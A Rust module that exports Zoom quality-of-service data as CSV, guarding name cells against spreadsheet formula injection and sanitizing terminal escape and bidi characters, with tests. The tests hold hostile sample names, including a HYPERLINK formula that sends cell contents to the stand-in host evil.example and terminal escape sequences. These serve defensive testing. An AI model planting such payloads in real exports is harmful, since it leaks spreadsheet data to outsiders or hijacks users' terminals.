//! The canonical CSV: a contract automation relies on.
//!
//! Header exactly `user_id,user_name,date_time,stream,metric,value,unit`; one row per non-empty
//! metric value per join per sample; `stream` and `metric` are Zoom's JSON keys; `value` is the
//! parsed number (resolution as `WxH` with unit `px`); `date_time` is UTC, RFC 3339 with `Z`.
//! Fields are quoted per RFC 4180 when they contain a comma, quote or line break (the `csv`
//! crate, set up to write exactly that).
//!
//! Amendment (formula injection): the CSV gets opened in Excel, which evaluates a cell starting
//! with `=`, `+`, `-` or `@` (and, after a tab or carriage return, too). Following OWASP's advice,
//! a `user_id` or `user_name` cell starting with one of those gets a leading `'` by default;
//! [`CsvOptions::raw_text`] writes the names exactly as Zoom sent them. Numeric columns never
//! change (`-61` dBm stays `-61`).

use crate::meeting::Meeting;
use std::borrow::Cow;
use std::io::{self, Write};

pub const HEADER: &str = "user_id,user_name,date_time,stream,metric,value,unit";

/// How names are written. The default is the canonical CSV for a file.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct CsvOptions {
    /// Names exactly as Zoom sent them, without the formula guard (`--raw-text`).
    pub raw_text: bool,
    /// The CSV is shown on a terminal: control and bidi characters in names are replaced
    /// ([`crate::text::sanitize`]), so a name cannot run an escape sequence.
    pub for_terminal: bool,
}

/// Writes the meeting as canonical CSV (with `\n` line endings), names guarded against
/// formula injection.
pub fn write_canonical_csv<W: Write>(meeting: &Meeting, out: W) -> io::Result<()> {
    write_csv(meeting, out, CsvOptions::default())
}

/// Writes the meeting as canonical CSV with `options` applied to the name columns.
pub fn write_csv<W: Write>(meeting: &Meeting, out: W, options: CsvOptions) -> io::Result<()> {
    let mut csv = ::csv::WriterBuilder::new()
        .terminator(::csv::Terminator::Any(b'\n'))
        .quote_style(::csv::QuoteStyle::Necessary)
        .from_writer(out);
    csv.write_record(HEADER.split(','))?;
    for join in &meeting.joins {
        let user_id = name_cell(&join.user_id, options);
        let user_name = name_cell(&join.user_name, options);
        for sample in &join.samples {
            let time = sample.time.format("%Y-%m-%dT%H:%M:%SZ").to_string();
            for (key, value) in sample.pairs() {
                csv.write_record([
                    user_id.as_ref(),
                    user_name.as_ref(),
                    &time,
                    key.stream.key(),
                    key.metric.key(),
                    &value.csv_text(),
                    key.metric.unit().symbol(),
                ])?;
            }
        }
    }
    csv.flush()
}

fn name_cell(name: &str, options: CsvOptions) -> Cow<'_, str> {
    let cell = if options.raw_text { Cow::Borrowed(name) } else { guard_formula(name) };
    if options.for_terminal {
        Cow::Owned(crate::text::sanitize(&cell).into_owned())
    } else {
        cell
    }
}

/// OWASP's CSV-injection advice: a cell starting with `=`, `+`, `-`, `@`, tab or carriage
/// return gets a leading `'`, so a spreadsheet shows it as text instead of evaluating it.
pub fn guard_formula(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::meeting::RawMeeting;
    use crate::raw::QosPage;

    #[test]
    fn writes_the_contract_exactly() {
        let page: QosPage = serde_json::from_str(
            r#"{"participants":[{"user_id":"16","user_name":"Doe, \"JD\"","user_qos":[
              {"date_time":"2022-03-01T10:16:00Z","audio_input":{"bitrate":"27.15 kbps","latency":"","avg_loss":"0.03%"},
               "video_input":{"resolution":"0*0","frame_rate":"12 fps"},"wifi_rssi":{"avg_rssi":-61,"rssi_unit":"dBm"}}]}]}"#,
        )
        .unwrap();
        let meeting = Meeting::derive(&RawMeeting { qos_pages: vec![&page], ..Default::default() });
        let mut buf = Vec::new();
        write_canonical_csv(&meeting, &mut buf).unwrap();
        assert_eq!(
            String::from_utf8(buf).unwrap(),
            "user_id,user_name,date_time,stream,metric,value,unit\n\
             16,\"Doe, \"\"JD\"\"\",2022-03-01T10:16:00Z,audio_input,bitrate,27.15,kbps\n\
             16,\"Doe, \"\"JD\"\"\",2022-03-01T10:16:00Z,audio_input,avg_loss,0.03,%\n\
             16,\"Doe, \"\"JD\"\"\",2022-03-01T10:16:00Z,video_input,resolution,0x0,px\n\
             16,\"Doe, \"\"JD\"\"\",2022-03-01T10:16:00Z,video_input,frame_rate,12,fps\n\
             16,\"Doe, \"\"JD\"\"\",2022-03-01T10:16:00Z,wifi_rssi,avg_rssi,-61,dBm\n"
        );
    }

    fn meeting_with_names(names: &[(&str, &str)]) -> Meeting {
        let participants: Vec<serde_json::Value> = names
            .iter()
            .map(|(id, name)| {
                serde_json::json!({"user_id": id, "user_name": name, "user_qos": [
                    {"date_time": "2022-03-01T10:16:00Z", "wifi_rssi": {"avg_rssi": -61, "rssi_unit": "dBm"}}]})
            })
            .collect();
        let page: QosPage = serde_json::from_value(serde_json::json!({ "participants": participants })).unwrap();
        Meeting::derive(&RawMeeting { qos_pages: vec![&page], ..Default::default() })
    }

    fn csv_of(meeting: &Meeting, options: CsvOptions) -> String {
        let mut buf = Vec::new();
        write_csv(meeting, &mut buf, options).unwrap();
        String::from_utf8(buf).unwrap()
    }

    #[test]
    fn names_that_a_spreadsheet_would_evaluate_get_a_leading_quote() {
        let hostile = [
            ("=1+1", "=HYPERLINK(\"http://evil.example/?\"&A2,\"ok\")"),
            ("+1", "+491701234567"),
            ("-2", "-Ana"),
            ("@3", "@SUM(A1)"),
            ("4", "\tTabbed"),
            ("5", "\rCarriage"),
            ("6", "Ana = Lima"),
        ];
        let csv = csv_of(&meeting_with_names(&hostile), CsvOptions::default());
        let rows: Vec<&str> = csv.lines().skip(1).collect();
        assert!(rows.contains(&"'=1+1,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"ok\"\")\",2022-03-01T10:16:00Z,wifi_rssi,avg_rssi,-61,dBm"), "{csv}");
        assert!(rows.contains(&"'+1,'+491701234567,2022-03-01T10:16:00Z,wifi_rssi,avg_rssi,-61,dBm"), "{csv}");
        assert!(rows.contains(&"'-2,'-Ana,2022-03-01T10:16:00Z,wifi_rssi,avg_rssi,-61,dBm"), "{csv}");
        assert!(rows.contains(&"'@3,'@SUM(A1),2022-03-01T10:16:00Z,wifi_rssi,avg_rssi,-61,dBm"), "{csv}");
        assert!(csv.contains("\n4,'\tTabbed,"), "{csv}");
        assert!(csv.contains("\n5,\"'\rCarriage\","), "{csv}");
        assert!(rows.contains(&"6,Ana = Lima,2022-03-01T10:16:00Z,wifi_rssi,avg_rssi,-61,dBm"), "{csv}");
        // --raw-text: the names exactly as Zoom sent them.
        let raw = csv_of(&meeting_with_names(&hostile), CsvOptions { raw_text: true, ..CsvOptions::default() });
        assert!(
            raw.contains("\n=1+1,\"=HYPERLINK(") && raw.contains("\n-2,-Ana,") && raw.contains("\n4,\tTabbed,"),
            "{raw}"
        );
    }

    #[test]
    fn a_terminal_gets_no_control_or_bidi_characters_from_names() {
        let meeting = meeting_with_names(&[("1", "Eve\u{202e}gnp.exe\u{1b}]0;pwned\u{7}"), ("2", "\u{1b}[2J")]);
        let file = csv_of(&meeting, CsvOptions::default());
        assert!(file.contains("Eve\u{202e}gnp.exe\u{1b}]0;pwned\u{7}"), "a file stays byte-exact: {file:?}");
        let shown = csv_of(&meeting, CsvOptions { for_terminal: true, ..CsvOptions::default() });
        assert!(!shown.chars().any(|c| crate::text::is_hidden(c) && c != '\n'), "{shown:?}");
        assert!(shown.contains("\n1,Eve\u{FFFD}gnp.exe\u{FFFD}]0;pwned\u{FFFD},"), "{shown:?}");
        assert!(shown.contains("\n2,\u{FFFD}[2J,"), "{shown:?}");
    }

    /// The hand-written RFC 4180 quoting the CSV had before the `csv` crate wrote it.
    fn reference_quote(field: &str) -> String {
        if field.contains([',', '"', '\n', '\r']) {
            format!("\"{}\"", field.replace('"', "\"\""))
        } else {
            field.to_owned()
        }
    }

    proptest::proptest! {
        #[test]
        fn the_csv_crate_writes_the_same_bytes_as_the_hand_written_writer(
            id in "[ -~\\n\\r\\t\"',é王\u{1b}]{0,12}",
            name in "[ -~\\n\\r\\t\"',é王\u{1b}]{0,12}",
        ) {
            let meeting = meeting_with_names(&[(&id, &name)]);
            let options = CsvOptions { raw_text: true, ..CsvOptions::default() };
            let expected: String = meeting
                .joins
                .iter()
                .map(|j| format!("{},{},2022-03-01T10:16:00Z,wifi_rssi,avg_rssi,-61,dBm\n", reference_quote(&j.user_id), reference_quote(&j.user_name)))
                .collect();
            proptest::prop_assert_eq!(csv_of(&meeting, options), format!("{HEADER}\n{expected}"));
        }
    }
}
